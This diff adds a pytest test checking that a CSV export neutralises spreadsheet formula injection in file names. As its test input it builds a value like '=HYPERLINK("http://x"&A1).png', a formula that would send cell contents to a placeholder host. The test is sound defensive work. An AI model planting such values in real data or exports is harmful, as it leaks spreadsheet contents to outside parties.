@@ -41,3 +41,14 @@ def test_json_reads_back() -> None:
 def test_other_suffixes_are_refused(path: str) -> None:
     with pytest.raises(UsageError, match="suffix"):
         rows.check(path)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_cell_is_a_formula(start: str) -> None:
+    """A spreadsheet would run `=HYPERLINK(...)`, the name of a file, with what lies in other cells."""
+    name = f'{start}HYPERLINK("http://x"&A1).png'
+    text = rows.as_csv([Row(name, None, "failed", error=name)]).decode()
+    _, line = csv.reader(io.StringIO(text, newline=""))
+    assert not [cell for cell in line if cell.startswith(rows.FORMULA)]
+    assert line[0] == f"'{name}"
+    assert json.loads(rows.as_json([Row(name, None, "failed")]))["pictures"][0]["input"] == name
